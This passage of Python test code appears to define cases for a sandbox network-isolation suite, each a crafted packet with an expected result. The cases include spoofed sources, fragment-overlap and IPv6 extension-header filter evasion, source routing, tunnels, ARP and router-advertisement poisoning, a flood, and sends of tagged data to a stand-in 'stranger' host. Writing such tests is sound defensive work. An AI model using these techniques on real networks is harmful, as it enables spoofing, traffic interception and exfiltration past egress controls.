        ("a stranger", "8.8.4.4", BARE), ("loopback", "127.0.0.1", WIRE), ("broadcast", "255.255.255.255", WIRE), ("an allowed origin", GOOD, BARE))]
    rows += [a("IPv6 source: " + what, packet6(DIRECT6, source=source), control) for what, source, control in (
        ("the neighbour", "fd68:6f73:7464::2", BARE), ("another address of the prefix", "fd68:6f73:7464::beef", BARE), ("link-local", "fe80::ff:fe00:1", WIRE),
        ("a stranger's prefix", "2a01:4f8:9::9", BARE), ("another unique local", "fd00::1", BARE), ("loopback", "::1", WIRE), ("none", "::", WIRE), ("the host", HOST6, BARE))]
    rows += [a("IPv4 to " + what, packet4(target), control) for what, target, control in (
        ("a private range (10/8)", PRIVATE, BARE), ("a private range (172.16/12)", "172.16.0.1", BARE), ("a private range (192.168/16)", "192.168.1.1", BARE),
        ("the metadata address", METADATA, BARE), ("carrier NAT", CGNAT, BARE), ("the benchmark range", "198.18.0.1", BARE), ("192.0.0.0/24", "192.0.0.8", BARE),
        ("class E", "240.0.0.1", BARE), ("multicast", "239.1.2.3", WIRE), ("broadcast", "255.255.255.255", WIRE), ("0.0.0.0", "0.0.0.0", WIRE), ("loopback", "127.0.0.1", WIRE),
        ("the uplink's broadcast", "93.1.1.255", WIRE), ("a stranger", EVIL, BARE))]
    rows += [a("IPv6 to " + what, packet6(target), control) for what, target, control in (
        ("a unique local address", ULA, BARE), ("a v4-mapped address", "::ffff:93.1.66.6", WIRE), ("a v4-compatible address", "::93.1.66.6", BARE), ("6to4", "2002:5d01:4206::1", BARE),
        ("NAT64", "64:ff9b::5d01:4206", BARE), ("Teredo", "2001:0:5d01:4206::1", BARE), ("site-local", "fec0::1", BARE), ("another link-local", "fe80::2", WIRE),
        ("all nodes", "ff02::1", WIRE), ("global multicast", "ff0e::1234", WIRE), ("a documentation range", "2001:db8::1", BARE), ("a stranger", EVIL6, BARE))]
    rows += [a("protocol %s to an allowed address" % what, packet4(DIRECT, number, plain_body), BARE) for what, number in (
        ("GRE", 47), ("IPIP", 4), ("6in4", 41), ("ESP", 50), ("AH", 51), ("L2TP", 115), ("OSPF", 89), ("UDP-Lite", 136), ("DCCP", 33), ("IGMP", 2), ("253", 253))]
    rows += [a("SCTP to an allowed address", packet4(DIRECT, 132, lambda s, t, tag: struct.pack("!HHII", 8000, 8000, 0, 0) + tag), BARE)]
    rows += [a("IPv6: %s" % what, packet6(DIRECT6, number, body), control) for what, number, body, control in (
        ("GRE", 47, plain_body, BARE), ("IPv6 in IPv6", 41, lambda s, t, tag: ip6(s, EVIL6, 17, udp(s, EVIL6, 8000, tag)), BARE), ("no next header", 59, plain_body, BARE),
        ("hop-by-hop before a denied port", 0, lambda s, t, tag: b"\x11\0\1\4\0\0\0\0" + udp(s, t, 8001, tag), BARE),
        ("routing header 0 by an allowed address to a stranger", 43, lambda s, t, tag: b"\x11\2\0\1\0\0\0\0" + socket.inet_pton(socket.AF_INET6, EVIL6) + udp(s, t, 8001, tag), BARE),
        ("destination options before a denied port", 60, lambda s, t, tag: b"\x11\0\1\4\0\0\0\0" + udp(s, t, 8001, tag), BARE),
        ("an atomic fragment to a denied port", 44, lambda s, t, tag: b"\x11\0\0\0\0\0\0\7" + udp(s, t, 8001, tag), BARE),
        ("a later fragment alone", 44, lambda s, t, tag: b"\x11\0" + struct.pack("!H", 64) + b"\0\0\0\7" + tag * 2, BARE))]
    return rows + [
        a("an echo request as a carrier", packet4(DIRECT, 1, lambda s, t, tag: icmp(8, 0, b"\0\1\0\1", tag * 3)), BARE),
        a("to a stranger", packet4(EVIL, 1, lambda s, t, tag: icmp(8, 0, b"\0\1\0\1", tag * 3)), BARE),
        a("an echo reply that nobody asked for", packet4(EVIL, 1, lambda s, t, tag: icmp(0, 0, b"\0\1\0\1", tag * 3)), BARE),
        a("in IPv6", packet6(EVIL6, 58, lambda s, t, tag: icmp6(s, t, 128, 0, b"\0\1\0\1", tag * 3)), BARE),
        a("a timestamp request", packet4(DIRECT, 1, lambda s, t, tag: icmp(13, 0, b"\0\1\0\1", tag)), BARE),
        a("an ICMP error about my flow to a stranger", related(EVIL, DIRECT), BARE),
        a("an ICMP error about a stranger's flow", related(EVIL, EVIL), BARE),
        a("an ICMP error about a flow that is none, to an allowed address", packet4(DIRECT, 1, lambda s, t, tag: icmp(3, 3, b"\0\0\0\0", ip4(t, s, 17, udp(t, s, 9, tag, sport=9)))), BARE),
        a("an IPv6 error about a flow that is none", packet6(EVIL6, 58, lambda s, t, tag: icmp6(s, t, 1, 4, b"\0\0\0\0", ip6(t, s, 17, udp(t, s, 9, tag)))), BARE),
        a("a loose source route by an allowed address", packet4(DIRECT, options=b"\x83\7\4" + socket.inet_aton(EVIL) + b"\0", port=8001), BARE),
        a("a loose source route on an allowed port", packet4(DIRECT, options=b"\x83\7\4" + socket.inet_aton(EVIL) + b"\0"), BARE),
        a("a strict source route", packet4(DIRECT, options=b"\x89\7\4" + socket.inet_aton(EVIL) + b"\0"), WIRE),
        a("fragments: a denied port", fragments(lambda s, tag: (0, udp(s, DIRECT, 8001, tag * 3)[:24]), lambda s, tag: (24, udp(s, DIRECT, 8001, tag * 3)[24:])), BARE),
        a("fragments: the second overwrites the port", fragments(lambda s, tag: (0, udp(s, DIRECT, 8000, tag * 3)[:32]), lambda s, tag: (0, udp(s, DIRECT, 8001, tag * 3))), BARE),
        a("fragments: a header in eight bytes", fragments(lambda s, tag: (0, tcp(s, DIRECT, 8001, SYN, tag * 2)[:8]), lambda s, tag: (8, tcp(s, DIRECT, 8001, SYN, tag * 2)[8:]), 6), BARE),
        a("fragments: flags overwritten at offset 8", fragments(lambda s, tag: (0, tcp(s, DIRECT, 8001, ACK, tag * 2)[:24]), lambda s, tag: (8, tcp(s, DIRECT, 8001, SYN, tag * 2)[8:]), 6), BARE),
        a("a last fragment alone", packet4(DIRECT, body=lambda s, t, tag: tag * 2, offset=64), BARE),
        *[a("TCP %s to a denied port" % what, packet4(DIRECT, 6, segment(flags)), BARE) for what, flags in (
            ("data without a connection", ACK | PSH), ("SYN", SYN), ("SYN and FIN", SYN | FIN), ("no flags", 0), ("FIN PSH URG", FIN | PSH | URG), ("RST", RST), ("SYN and ACK", SYN | ACK))],
        a("TCP data without a connection to an allowed port", packet4(DIRECT, 6, segment(ACK | PSH, port=8000)), BARE),
        a("TCP to an allowed port with source port 53", packet4(DIRECT, 6, lambda s, t, tag: tcp(s, t, 8001, SYN, tag, sport=53)), BARE),
        a("mail", says(EVIL, 25, "TAG"), BARE), a("SSH to a stranger", says(EVIL, 22, "TAG"), BARE), a("port 0", packet4(EVIL, port=0), BARE),
        a("a stranger's open port", says(EVIL, 8000, "TAG"), BARE), a("UDP to it", says(EVIL, 8000, "TAG", socket.SOCK_DGRAM), BARE),
        a("a tunnel by UDP 51820", says(EVIL, 51820, "TAG", socket.SOCK_DGRAM), BARE), a("by UDP 4500", says(EVIL, 4500, "TAG", socket.SOCK_DGRAM), BARE),
        a("NTP", says(EVIL, 123, "TAG", socket.SOCK_DGRAM), BARE),
        a("another MAC address", lambda w, tag: frame(V4, lambda w, tag: ip4(w.ipv4[PT_A], DIRECT, 17, udp(w.ipv4[PT_A], DIRECT, 8000, tag)), mac="02:00:00:00:00:99")(w, tag), BARE),
        a("the gateway's MAC address", lambda w, tag: frame(V4, lambda w, tag: ip4(w.ipv4[PT_A], DIRECT, 17, udp(w.ipv4[PT_A], DIRECT, 8000, tag)), mac=w.gateway_mac)(w, tag), BARE),
        a("the neighbour's MAC as target", lambda w, tag: frame(V4, lambda w, tag: ip4(w.ipv4[PT_A], w.ipv4[PT_B], 17, udp(w.ipv4[PT_A], w.ipv4[PT_B], 7000, tag)), target=w.mac[PT_B])(w, tag), WIRE),
        a("VLAN 7", frame(VLAN, lambda w, tag: struct.pack("!H", 7) + V4 + ip4(w.ipv4[PT_A], DIRECT, 17, udp(w.ipv4[PT_A], DIRECT, 8001, tag))), WIRE),
        a("a VLAN tag of priority alone, to a denied port", frame(VLAN, lambda w, tag: b"\0\0" + V4 + ip4(w.ipv4[PT_A], DIRECT, 17, udp(w.ipv4[PT_A], DIRECT, 8001, tag))), BARE),
        a("two VLAN tags", frame(QINQ, lambda w, tag: b"\0\7" + VLAN + b"\0\7" + V4 + ip4(w.ipv4[PT_A], DIRECT, 17, udp(w.ipv4[PT_A], DIRECT, 8001, tag))), WIRE),
        a("an ethertype of nobody's", frame(b"\x88\xb5", plain), WIRE), a("PPPoE", frame(b"\x88\x64", plain), WIRE), a("a frame of 802.3", frame(b"\0\x40", plain), WIRE),
        a("the neighbour, UDP", to_neighbour(7000, socket.SOCK_DGRAM), BARE), a("the neighbour, TCP", to_neighbour(7000, socket.SOCK_STREAM), BARE),
        a("the neighbour, an echo request", lambda w, tag: packet4(w.ipv4[PT_B], 1, lambda s, t, tag: icmp(8, 0, b"\0\1\0\1", tag))(w, tag), BARE),
        a("the neighbour's proxy port", lambda w, tag: [speak(w, w.ipv4[PT_B], p, tag) for p in (443, 80, 53, 3128)] and None, BARE),
        a("services of the host: gateway", to_host((GATEWAY,), HOST_PORTS), BARE), a("gateway in IPv6", to_host((GATEWAY6,), HOST_PORTS), BARE),
        a("the uplink's address", to_host((HOST4,), HOST_PORTS), BARE), a("in IPv6", to_host((HOST6,), HOST_PORTS), BARE),
        a("loopback by frame", packet4("127.0.0.1", port=8080), WIRE), a("DHCP", packet4("255.255.255.255", port=67), BARE),
        a("mDNS to the host", packet4(GATEWAY, port=5353), BARE),
        a("the border's ports without the redirect", programs_directly, programs_control),
        a("protocols with a second connection", expectations, expectations_control, carries=True),
        a("a stranger answers an allowed flow", hole_punch, hole_punch_control), a("from outside to the instance", inbound, BARE),
        a("10^3 sources that are nobody's", flood, BARE),
        a("an ARP reply for the neighbour", poison(ARP, lambda w, tag: arp(2, b"\2\0\0\0\0\1", w.ipv4[PT_B], GATEWAY) + tag), WIRE),
        a("an ARP reply for the uplink's gateway", poison(ARP, lambda w, tag: arp(2, b"\2\0\0\0\0\1", "93.1.1.1", "93.1.1.1") + tag), WIRE),
        a("a router advertisement", poison(V6, advert, "33:33:00:00:00:01"), WIRE), a("a neighbour advertisement for the uplink's gateway", poison(V6, neighbour_advert), WIRE),
        a("an ICMP redirect to the host", poison(V4, redirect), WIRE),
        a("an exposed port from where it may not be used", exposed(EVIL), exposed(GOOD)),
        a("a flow after its rule is gone", after_revoke(None), after_revoke(None, change=False)),
        a("half closed", after_revoke("mine"), after_revoke("mine", change=False)), a("with data on its way", after_revoke("his"), after_revoke("his", change=False)),
        a("after a cut", after_cut, lambda w, tag: after_cut(w, tag, False)),
        *[a("%s as a deputy: %s" % (user, what), deputy(user, targets), BARE) for user in ("hostd-resolver", "hostd-proxy", "hostd-haproxy")
          for what, targets in (("private ranges", private), ("the host", host_itself), ("instances", instances))],
        a("hostd-proxy as a deputy: UDP to private ranges", deputy("hostd-proxy", private, socket.SOCK_DGRAM), BARE),
    ]


TABLE = [*names_rows(), *tls_rows(), *packet_rows()]
